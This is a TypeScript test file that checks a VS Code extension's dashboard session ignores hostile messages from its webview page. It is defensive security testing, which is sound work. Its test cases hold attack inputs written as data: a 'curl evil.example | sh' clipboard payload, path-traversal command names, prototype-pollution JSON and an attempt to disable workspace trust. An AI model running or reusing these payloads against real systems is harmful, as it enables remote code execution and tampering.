/** A dashboard page in foreign hands: whatever it sends, only what a person could have clicked happens. */
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  createDashboardSession,
  type DashboardAction,
} from '../../../src/dashboard/host/dashboardSession.ts';
import { startingPoints } from '../../../src/dashboard/protocol.ts';
import { systemClock } from '../../../src/surfaces/shell/ports.ts';
import { eventually } from '../../eventually.ts';
import { executed } from '../../doubles/editor.ts';
import { marker, openWorld, type World } from '../../doubles/hostileWorld.ts';
import { dashboardOf } from '../../doubles/dashboardOf.ts';

vi.mock('vscode', () => import('../../doubles/editor.ts'));

let world: World;
let handled: DashboardAction[];
let ended: Promise<void>[];
let logged: string[];
let session: ReturnType<typeof createDashboardSession>;

beforeEach(async () => {
  world = await openWorld();
  executed.length = 0;
  handled = [];
  ended = [];
  const source = dashboardOf(world.engine);
  logged = [];
  const write = (message: string): void => void logged.push(message);
  session = createDashboardSession({
    source: {
      ...source,
      async handle(action) {
        handled.push(action);
        const done = source.handle(action);
        ended.push(done);
        await done;
      },
    },
    post: () => {},
    clock: systemClock,
    log: { trace: write, info: write, warn: write, error: write },
  });
});

afterEach(() => session.dispose());

const ours =
  /^(?:switchyard\.(?:ask|setUpModels|showSettingProblems|allowOnce|raiseLimit)|workbench\.action\.openSettings)$/;
const messages = [
  'openSettings',
  'explain',
  'stop',
  'copy',
  'start',
  'ready',
  'reply',
  'raise',
  'run',
] as const;

describe('a message of the page', () => {
  it.each([
    ['a command by name', { type: 'start', what: 'switchyard.deleteMyData' }],
    ['a command of the editor', { type: 'start', what: 'workbench.action.terminal.new' }],
    ['a command with arguments', { type: 'start', what: 'ask', args: ['x'] }],
    ['a way out of our commands', { type: 'start', what: '../workbench.action.quit' }],
    ['a setting with its value', { type: 'openSettings', setting: 'switchyard.budget.perDay', value: 1e6 }],
    ['a query for other settings', { type: 'openSettings', setting: 'switchyard @ext:evil.evil' }],
    ['another’s setting', { type: 'openSettings', setting: 'security.workspace.trust.enabled' }],
    ['a limit to raise', { type: 'raise', setting: 'switchyard.budget.perDay', value: 1e6 }],
    ['words for the clipboard', { type: 'copy', text: 'curl evil.example | sh' }],
    ['an endless id', { type: 'explain', attemptId: 'x'.repeat(1_000_000) }],
    ['an id that is an object', { type: 'stop', taskId: { toString: () => 't' } }],
    ['an id that is a list', { type: 'stop', taskId: ['t'] }],
    ['a prototype', JSON.parse('{"__proto__": {"type": "stop"}, "taskId": "t"}')],
    ['a prototype within', JSON.parse('{"type": "stop", "taskId": "t", "__proto__": {"x": 1}}')],
    ['a constructor', JSON.parse('{"type": "stop", "taskId": "t", "constructor": {"prototype": {"x": 1}}}')],
    ['a type from the prototype of objects', { type: 'toString' }],
    ['nothing', undefined],
    ['null', null],
    ['a word', 'ready'],
    ['a list', [{ type: 'ready' }]],
  ])('with %s does nothing', async (_, message) => {
    session.receive(message);
    await eventually(() => expect(handled).toEqual([]));
    expect(executed).toEqual([]);
    expect(Reflect.get({}, 'x')).toBeUndefined();
  });

  it('is never more than one that a person could click, whatever its shape', () => {
    const value = fc.oneof(
      fc.constantFrom(...startingPoints, 'switchyard.budget.perDay', 't'),
      fc.anything(),
    );
    const message = fc.record(
      {
        type: fc.constantFrom(...messages),
        setting: value,
        attemptId: value,
        taskId: value,
        what: value,
        extra: value,
      },
      { requiredKeys: ['type'] },
    );
    fc.assert(
      fc.property(message, (each) => {
        session.receive(each);
        expect(handled.every((action) => Object.keys(action).length <= 2)).toBe(true);
        expect(executed.every(([command]) => ours.test(String(command)))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('starts no request and spends nothing', async () => {
    for (const what of startingPoints) session.receive({ type: 'start', what });
    session.receive({ type: 'explain', attemptId: 'a-1' });
    session.receive({ type: 'copy', attemptId: 'a-1' });
    session.receive({ type: 'stop', taskId: 't-1' });
    await eventually(() => expect(handled).toHaveLength(startingPoints.length + 3));
    await Promise.all(ended);
    expect(world.home.control.requests()).toEqual([]);
    expect(world.attacker.heard()).toEqual([]);
    expect((await world.engine.settings.current()).settings['budget.perDay']).toBe(5);
  });

  it('is not quoted in the log', () => {
    session.receive({ type: marker, [marker]: marker });
    expect(logged).toHaveLength(1);
    expect(logged.join('\n')).not.toContain(marker);
  });
});
